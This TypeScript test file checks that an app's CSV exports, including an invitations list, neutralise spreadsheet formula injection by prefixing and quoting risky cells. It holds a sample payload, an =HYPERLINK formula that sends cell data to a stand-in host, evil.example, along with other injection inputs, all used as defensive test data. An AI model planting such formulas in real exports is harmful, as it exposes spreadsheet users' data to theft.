import assert from 'node:assert/strict';
import fc from 'fast-check';
import { stringify } from '../../functions/node_modules/csv-stringify/dist/cjs/sync.cjs';
import { CSV_OPTIONS } from '../../functions/src/analytics/resultsRows';
import { invitationsCsv } from '../../web/src/admin/classes/invitationsCsv';
import { csvText } from '../../web/src/csv';

// Pure: every CSV the app writes follows the service's one rule (csv-stringify with CSV_OPTIONS):
// a text a spreadsheet would evaluate is prefixed with a quote, and a cell is quoted when it holds a
// comma, a quote, a CR or an LF. The results export adds CRLF record ends to the same rule
// (GRADEBOOK_CSV_OPTIONS); the rule itself is what both sides share.

const toCsv = (rows: string[][]): string => stringify(rows, CSV_OPTIONS);

const HOSTILE = '=HYPERLINK("http://evil.example/?x="&A1,"click")';

describe('web csv: the rule every CSV the app writes follows', () => {
  it('writes a hostile name in the invitations CSV escaped and quoted, beside the live link', () => {
    const text = invitationsCsv([
      { email: 'ann@school.example', name: HOSTILE, invitation_link: 'https://app.example/invite#k' },
      { email: '+1@school.example', name: null },
    ]);
    assert.equal(
      text,
      'email,name,invitation_link\n' +
        'ann@school.example,"\'=HYPERLINK(""http://evil.example/?x=""&A1,""click"")",https://app.example/invite#k\n' +
        "'+1@school.example,,\n",
    );
  });

  it('gives the cells the service’s rule gives, whatever the text', () => {
    const risky = fc.constantFrom(
      '=',
      '+',
      '-',
      '@',
      '\t',
      '\r',
      '\n',
      ',',
      '"',
      "'",
      ' ',
      'a',
      '\uFF1D',
      '\uFF0B',
      '\uFF0D',
      '\uFF20',
    );
    const cellText = fc.oneof(
      fc.string(),
      fc.array(risky, { maxLength: 6 }).map((parts) => parts.join('')),
    );
    fc.assert(
      fc.property(
        fc.array(fc.array(cellText, { minLength: 1, maxLength: 4 }), { minLength: 1, maxLength: 4 }),
        (rows) => {
          assert.equal(csvText(rows), toCsv(rows));
        },
      ),
      { numRuns: 500 },
    );
    for (const value of [HOSTILE, '-1', '@SUM(A1)', '\tx', '\rx', 'a\rb', 'Ann "the" 2nd', '', 'plain'])
      assert.equal(csvText([[value, 'x']]), toCsv([[value, 'x']]), JSON.stringify(value));
  });
});
